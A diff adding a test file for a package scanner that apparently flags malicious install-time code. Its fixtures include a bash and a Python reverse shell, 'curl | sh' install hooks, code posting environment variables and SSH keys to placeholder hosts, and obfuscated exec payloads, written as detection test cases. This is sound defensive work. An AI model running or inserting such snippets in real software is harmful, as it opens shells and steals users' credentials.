@@ -1,0 +1,123 @@
+import { describe, expect, it } from 'vitest';
+import { A_WHEEL, findingsIn, itKeepsTheContentScannerContract } from '../../../test/contract/content-scanner.ts';
+import { installCodeScanner } from './index.ts';
+
+const SDIST = { ...A_WHEEL, filename: 'demo_pkg-1.0.tar.gz' };
+const PE = new Uint8Array(128);
+PE.set([0x4d, 0x5a]);
+PE[0x3c] = 64;
+PE.set([0x50, 0x45, 0, 0, 0x64, 0x86], 64);
+
+/** Sign, path, text. */
+const BAD: readonly (readonly [string, string, string])[] = [
+  ['path-file-code', 'x.pth', 'import x_hook\n'],
+  ['path-file-payload', 'x.pth', 'import os; exec(__import__("base64").b64decode("eA=="))\n'],
+  [
+    'path-file-payload',
+    'demo-1.data/purelib/x.pth',
+    'import urllib.request; x = urllib.request.urlopen("https://a.example")\n',
+  ],
+  ['start-up-module', 'sitecustomize.py', 'x = 1\n'],
+  ['shadowed-command', 'demo_pkg-1.0.data/scripts/pip', '#!/bin/sh\n'],
+  ['shadowed-command', 'demo_pkg-1.0.dist-info/entry_points.txt', '[console_scripts]\nsudo = demo:main\n'],
+  ['lifecycle-script', 'package/package.json', '{"scripts": {"postinstall": "node build.js"}}'],
+  ['lifecycle-download', 'package/package.json', '{"scripts": {"preinstall": "curl https://a.example | sh"}}'],
+  ['load-hook', 'demo/R/zzz.R', '.onLoad <- function(lib, pkg) {\n  system("id")\n}\n'],
+  ['configure-download', 'demo/configure', '#!/bin/sh\ncurl -O https://a.example/x\n'],
+  ['decoded-code', 'pkg/a.py', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n'],
+  ['decoded-code', 'pkg/a.py', 'import base64, zlib\np = zlib.decompress(base64.b64decode(blob))\nexec(p)\n'],
+  ['decoded-code', 'pkg/a.py', 'exec("".join(map(chr, [112, 114])))\n'],
+  ['decoded-code', 'pkg/a.py', '__import__("builtins").exec(bytes.fromhex("7072"))\n'],
+  ['decoded-code', 'pkg/a.js', 'eval(atob("YWxlcnQoMSk="))\n'],
+  ['decoded-code', 'pkg/a.js', 'eval(Buffer.from(x, "base64").toString())\n'],
+  ['download-and-run', 'pkg/a.py', 'import requests\nexec(requests.get(u).text)\n'],
+  [
+    'download-and-run',
+    'pkg/a.py',
+    'import os, urllib.request\ndef go():\n  urllib.request.urlretrieve(u, p)\n  os.system(p)\n',
+  ],
+  ['network-at-load', 'pkg/__init__.py', 'import requests\nrequests.get("https://a.example")\n'],
+  ['process-at-load', 'pkg/__init__.py', 'import os\nos.system("id")\n'],
+  ['environment-and-network', 'pkg/a.py', 'import os, requests\nrequests.post(u, json=dict(os.environ))\n'],
+  [
+    'environment-and-network',
+    'pkg/a.js',
+    'const https = require("https");\nhttps.request(o).write(JSON.stringify(process.env))\n',
+  ],
+  ['credentials-and-network', 'pkg/a.py', 'import requests\nrequests.post(u, data=open(home + "/.ssh/id_rsa"))\n'],
+  ['credential-store', 'pkg/a.py', 'p = "~/.aws/credentials"\n'],
+  ['drop-point', 'pkg/a.py', `u = "https://chat.example/api/webhooks/123456789012345678/${'a'.repeat(60)}"\n`],
+  [
+    'reverse-shell',
+    'pkg/a.py',
+    'import socket, os, subprocess\ns = socket.socket()\ns.connect((h, 1))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])\n',
+  ],
+  ['reverse-shell', 'pkg/a.py', 'x = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"\n'],
+  [
+    'self-extraction',
+    'pkg/a.py',
+    'import base64, subprocess\ndef go():\n  f = open(p, "wb")\n  f.write(base64.b64decode(blob))\n  subprocess.run([p])\n',
+  ],
+  ['hidden-text-direction', 'pkg/a.py', 'x = 1 # \u202e } \u2066if admin\u2069\n'],
+  ['invisible-character', 'pkg/a.js', 'var pass\u200bword = 1;\n'],
+  ['mixed-script-name', 'pkg/a.py', 'def p\u0430yload(): pass\n'],
+  ['code-beyond-the-screen', 'pkg/a.py', `x = 1;${' '.repeat(200)}import os\n`],
+];
+
+const CLEAN: Readonly<Record<string, string>> = {
+  'pkg/plain.py': 'import os, requests\ndef go():\n  return requests.get(u, headers={"h": os.environ.get("X")})\n',
+  'pkg/decode.py': 'import base64\ndata = base64.b64decode(x)\nre.compile(data)\nmodel.eval()\n',
+  'pkg/main.py': 'import subprocess\nif __name__ == "__main__":\n  subprocess.run(["ls"])\n',
+  'pkg/words.py': '"""exec(base64.b64decode(x))"""\n# eval(atob(x))\n',
+  'pkg/env.py': 'import os, subprocess\ndef go():\n  subprocess.run(["ls"], env=dict(os.environ))\n',
+  'pkg/bundle.js': 'const g = Function("return this")(); const s = atob(x);',
+  'paths.pth': '/opt/other\n# import x\n',
+  'demo_pkg-1.0.dist-info/entry_points.txt': '[console_scripts]\ndemo = demo:main\n',
+  'pkg/docs.py': 'name = "\u043f\u0440\u0438\u0432\u0435\u0442 world"\n',
+  'pkg/package.json': '{"scripts": {"postinstall": "curl https://a.example | sh"}}',
+  'setup.py': 'from setuptools import setup\nsetup(name="demo")\n',
+};
+
+itKeepsTheContentScannerContract(installCodeScanner, {
+  found: Object.fromEntries(BAD.map(([sign, path, text], at) => [`${at} ${sign}`, { [path]: text }])),
+  clean: Object.fromEntries(Object.entries(CLEAN).map(([path, text]) => [path, { [path]: text }])),
+  seeds: [
+    'import os; exec(base64.b64decode(x))',
+    'eval(atob(x))',
+    '((((',
+    '"~/.ssh/id_rsa"',
+    ' '.repeat(300),
+    'x\u202ey',
+  ],
+});
+
+describe('code at install and import', () => {
+  it.each(BAD)('%s in %s: %s', async (sign, path, text) => {
+    const found = await findingsIn(installCodeScanner, { [path]: text });
+    expect(found.map(({ data }) => data.sign)).toContain(sign);
+  });
+
+  it.each([
+    ['setup-network', 'import urllib.request\nurllib.request.urlopen(u)\n'],
+    ['setup-network-and-code', 'import requests, os\nos.system(requests.get(u).text)\n'],
+    ['setup-processes', 'import subprocess\nsubprocess.run(["make"])\n'],
+  ])('%s: setup.py runs in source distributions only', async (sign, text) => {
+    const signs = async (subject: typeof A_WHEEL) =>
+      (await findingsIn(installCodeScanner, { 'demo_pkg-1.0/setup.py': text }, subject)).map(({ data }) => data.sign);
+    expect(await signs(SDIST)).toContain(sign);
+    expect(await signs(A_WHEEL)).not.toContain(sign);
+  });
+
+  it('counts programs in a wheel that calls itself pure', async () => {
+    const pure = await findingsIn(installCodeScanner, { 'pkg/t64.exe': PE });
+    expect(pure).toMatchObject([
+      { data: { sign: 'programs-in-pure-package', count: 1, files: [{ machine: 'x86_64' }] } },
+    ]);
+    const built = { ...A_WHEEL, filename: 'demo_pkg-1.0-cp312-cp312-win_amd64.whl' };
+    expect(await findingsIn(installCodeScanner, { 'pkg/t64.exe': PE }, built)).toEqual([]);
+  });
+
+  it('never says that something is malicious', () => {
+    expect(installCodeScanner.emits).toEqual(['install-code']);
+  });
+});
